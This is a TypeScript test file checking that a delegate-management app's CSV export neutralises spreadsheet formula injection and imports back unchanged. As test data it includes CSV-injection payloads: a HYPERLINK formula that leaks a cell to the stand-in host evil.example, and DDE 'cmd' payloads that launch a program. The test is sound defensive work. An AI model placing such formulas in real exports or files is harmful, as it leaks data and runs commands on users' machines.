import { afterEach, expect, it } from 'vitest';
import { makeIdNumber } from '../../../src/core/text/id-number.ts';
import { describeEachDatabase, openMigrated } from '../../support/databases.ts';
import { type Client, clientWithRoles, type TestApp, testApp } from '../../support/http.ts';

// Issue 13, item 7: the CSV export passed formulas through (=HYPERLINK(…), +cmd|…, @SUM, -1+2), and
// Plenum's own export, cut to three rows, was refused on import (its tab-prefixed codes made the
// parser guess tab). Formulas are now neutralised as the spreadsheet-injection guidance says, and
// the export imports back as it was.

const FORMULAS = {
  delegation: '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
  positions: ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-1+2'],
  suspension: '=1+2',
};

describeEachDatabase('HTTP: the delegate list as CSV', (target) => {
  let test: TestApp;
  afterEach(async () => test?.close());

  async function congressOf(admin: Client, number: number): Promise<string> {
    const organisation = await admin.post('/api/organisations', {
      name: `中共示范市委员会${number}`,
      shortName: '市委',
      locality: '示范市',
      level: 'city',
    });
    const congress = await admin.post('/api/congresses', {
      kind: 'congress',
      organisationId: organisation.json().id,
      number,
    });
    expect(congress.statusCode).toBe(200);
    return congress.json().id;
  }

  it('neutralises formulas, and the export cut to three rows imports back unchanged', async () => {
    test = await testApp(await openMigrated(target));
    const admin = await clientWithRoles(test, 'secretariat', [{ congressId: '*', role: 'admin' }]);
    const from = `/api/congresses/${await congressOf(admin, 13)}`;
    const delegation = (await admin.post(`${from}/delegations`, { name: FORMULAS.delegation })).json();
    expect(delegation.name).toBe(FORMULAS.delegation);
    const names = ['王宁', '李红', '张伟'];
    for (const [i, position] of FORMULAS.positions.entries()) {
      const created = await admin.post(`${from}/delegates`, {
        name: names[i],
        ethnicity: '汉族',
        idNumber: makeIdNumber('150502', `197${i}-03-12`, 123 + i),
        joinedDate: '1998-10',
        position,
        delegationId: delegation.id,
        ...(i === 2 ? { votingRights: false, suspensionReason: FORMULAS.suspension } : {}),
      });
      expect(created.statusCode, created.body).toBe(200);
    }
    const exported = await admin.get(`${from}/delegate-export?format=csv`);
    const text = exported.rawPayload.toString('utf8');
    const lines = text
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean);
    expect(lines).toHaveLength(4);
    // No cell of the file begins with a character that starts a formula (inside quotes or not).
    const cells = lines.slice(1).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(?=,|$)/g) ?? []);
    const bare = cells.map((cell) => cell.replace(/^"/, ''));
    expect(bare.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(text).toContain(`"'${FORMULAS.delegation.replaceAll('"', '""')}"`);
    for (const position of FORMULAS.positions) expect(text).toContain(`'${position}`);
    expect(text).toContain(`'${FORMULAS.suspension}`);

    // Into another congress: three rows of the export, as a secretary would cut it.
    const to = `/api/congresses/${await congressOf(admin, 14)}`;
    const upload = { fileName: 'delegates.csv', contentBase64: exported.rawPayload.toString('base64') };
    const preview = await admin.post(`${to}/delegate-imports/preview`, upload);
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json()).toMatchObject({ total: 3, validCount: 3, errors: [] });
    const committed = await admin.post(`${to}/delegate-imports/commit`, {
      ...upload,
      sha256: preview.json().sha256,
    });
    expect(committed.statusCode, committed.body).toBe(200);
    const original = (await admin.get(`${from}/delegates`)).json();
    const copied = (await admin.get(`${to}/delegates`)).json();
    const fields = (d: Record<string, unknown>) => [
      d.code,
      d.name,
      d.delegation,
      d.position,
      d.idNumber,
      d.votingRights,
      d.suspensionReason,
    ];
    expect(copied.map(fields)).toEqual(original.map(fields));
    expect(copied.map((d: { position: string }) => d.position)).toEqual(
      expect.arrayContaining(FORMULAS.positions),
    );
  });
});
